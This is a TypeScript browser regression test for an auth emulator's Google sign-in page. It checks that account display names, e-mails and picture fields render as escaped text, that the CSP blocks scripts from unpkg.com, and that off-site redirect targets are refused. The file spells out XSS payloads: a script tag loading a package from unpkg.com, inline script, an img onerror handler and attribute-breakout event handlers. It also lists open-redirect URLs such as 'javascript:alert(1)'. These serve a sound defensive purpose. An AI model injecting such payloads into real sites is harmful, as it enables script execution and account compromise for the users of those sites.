import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer } from '../helpers/server.ts';

/*
 * Issue #44, point 3: the emulator's Google sign-in page, served on this origin, printed every
 * account's display name unescaped, and its policy let scripts come from unpkg.com (which serves
 * any published npm file). A display name `<script src="https://unpkg.com/…">` ran here. The page
 * is loaded in Chromium with its policy enforced; unpkg.com answers with a script that marks the
 * page, as a published package would.
 */

declare global {
  interface Window {
    __owned?: string[];
    __pageViolations: { directive: string; blocked: string }[];
  }
}

const MARK = (how: string) => `(window.__owned = window.__owned || []).push('${how}')`;

/** Accounts whose names and e-mail carry markup, and one plain account to sign in with. */
const HOSTILE = [
  {
    sub: 'google-xss-unpkg',
    email: 'xss-unpkg@example.com',
    name: '<script src="https://unpkg.com/evil-package@1.0.0/owned.js"></script>',
  },
  {
    sub: 'google-xss-inline',
    email: 'xss-inline@example.com',
    name: `<script>${MARK('inline')}</script><img src=x onerror="${MARK('onerror')}">`,
  },
  {
    // Out of the text and into attributes: the e-mail line, and the photo's style attribute.
    sub: 'google-xss-attr',
    email: `a@example.com" autofocus onfocus="${MARK('attr')}" x="`,
    name: `Ada" onmouseover="${MARK('mouse')}`,
    picture: `x') no-repeat" onmouseover="${MARK('style')}" data-x="('`,
  },
] as const;
const PLAIN = { sub: 'google-plain-page', email: 'plain-page@example.com', name: 'Plain Page' };

let server: Awaited<ReturnType<typeof startTestServer>>;
let browser: Browser;
let context: BrowserContext;
let base = '';
/** Scripts the browser asked unpkg.com for. */
const unpkgRequests: string[] = [];

async function createAccount(claims: Record<string, string>) {
  const res = await fetch(
    `${base}/identitytoolkit.googleapis.com/v1/accounts:signInWithIdp?key=demo-api-key`,
    {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        postBody: `id_token=${encodeURIComponent(JSON.stringify({ ...claims, email_verified: true }))}&providerId=google.com`,
        requestUri: 'http://localhost',
        returnSecureToken: true,
      }),
    },
  );
  expect(res.status).toBe(200);
}

const signInPage = (redirectUrl: string) =>
  `${base}/emulator/auth/handler?apiKey=demo-api-key&appName=%5BDEFAULT%5D&authType=signInViaRedirect` +
  `&providerId=google.com&eventId=e1&redirectUrl=${encodeURIComponent(redirectUrl)}`;

beforeAll(async () => {
  server = await startTestServer();
  await server.app.listen({ host: '127.0.0.1', port: 0 });
  const address = server.app.server.address();
  if (!address || typeof address === 'string') throw new Error('no port');
  base = `http://127.0.0.1:${address.port}`;
  for (const claims of [...HOSTILE, PLAIN]) await createAccount(claims);

  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run'],
  });
  context = await browser.newContext();
  // unpkg.com serves whatever was published: here, a script that marks the page. (The page's
  // Material stylesheet may still come from there: CSS runs nothing.)
  await context.route('https://unpkg.com/**', (route) => {
    if (route.request().resourceType() !== 'script') {
      return route.fulfill({ status: 200, contentType: 'text/css', body: '' });
    }
    unpkgRequests.push(route.request().url());
    return route.fulfill({
      status: 200,
      contentType: 'application/javascript',
      body: MARK(`unpkg ${route.request().url()}`),
    });
  });
  await context.route(
    (url) => url.origin !== base && url.hostname !== 'unpkg.com',
    (route) => route.abort(),
  );
  await context.addInitScript(() => {
    window.__pageViolations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__pageViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
  });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** The page, and its policy (checked after what the page did, so a repro shows the harm). */
async function open(url: string): Promise<{ page: Page; csp: string }> {
  const page = await context.newPage();
  const res = await page.goto(url);
  expect(res?.status()).toBe(200);
  expect(res!.headers()['content-security-policy-report-only']).toBeUndefined();
  return { page, csp: res!.headers()['content-security-policy'] ?? '' };
}

/** Enforced, the page's own scripts by hash, and no script from any other site. */
function expectOwnScriptsOnly(csp: string) {
  expect(csp).toMatch(/script-src [^;]*'sha256-/);
  expect(csp).not.toMatch(/script-src[^;]*(https?:|\*|unpkg|unsafe)/);
}

describe('the emulator sign-in page in Chromium', () => {
  it('shows hostile account names as text and runs none of them', async () => {
    const { page, csp } = await open(signInPage(`${base}/after-sign-in`));
    const list = page.locator('.js-reuse-account');
    await list.first().waitFor();
    // Hover and focus everything an injected handler could hang on.
    for (const item of await list.all()) {
      await item.hover();
      await item.focus();
    }
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => window.__owned ?? [])).toEqual([]);
    expect(unpkgRequests).toEqual([]);
    for (const account of HOSTILE) {
      await expect.poll(() => page.getByText(account.name, { exact: true }).count()).toBe(1);
      expect(await page.getByText(account.email, { exact: true }).count()).toBe(1);
    }
    // Nothing the names carried became an element: the page's one inline script, no image.
    expect(await page.evaluate(() => document.scripts.length)).toBe(1);
    expect(await page.locator('#accounts-list img').count()).toBe(0);
    expect(
      await page.evaluate(() =>
        [...document.querySelectorAll('*')].flatMap((el) =>
          [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name),
        ),
      ),
    ).toEqual([]);
    // The page's own script ran (it fills the provider's name) and nothing was refused.
    expect(await page.locator('.js-provider-id').first().textContent()).toBe('Google.com');
    expect(await page.evaluate(() => window.__pageViolations)).toEqual([]);
    expectOwnScriptsOnly(csp);
    await page.close();
  }, 60_000);

  it('still signs in: picking an account hands its claims back to this site', async () => {
    const { page, csp } = await open(signInPage(`${base}/after-sign-in`));
    expectOwnScriptsOnly(csp);
    await page.getByText(PLAIN.name, { exact: true }).click();
    await page.waitForURL(`${base}/after-sign-in`);
    const event = await page.evaluate(() =>
      sessionStorage.getItem('firebase:redirectEvent:demo-api-key:[DEFAULT]'),
    );
    const urlResponse = new URL((JSON.parse(event!) as { urlResponse: string }).urlResponse);
    const claims = JSON.parse(urlResponse.searchParams.get('id_token')!) as Record<string, unknown>;
    expect(claims).toMatchObject({ sub: PLAIN.sub, email: PLAIN.email, name: PLAIN.name });
    expect(unpkgRequests).toEqual([]);
    await page.close();
  }, 60_000);

  it('refuses to send the browser to another site after the pick (issue #44, point 4)', async () => {
    const page = await context.newPage();
    for (const target of ['https://evil.example/', 'javascript:alert(1)', '//evil.example/x']) {
      const res = await page.goto(signInPage(target));
      expect(res?.status(), target).toBe(400);
      expect(await res!.json()).toEqual({ detail: 'redirectUrl must be a page of this site.' });
    }
    await page.close();
  }, 60_000);
});
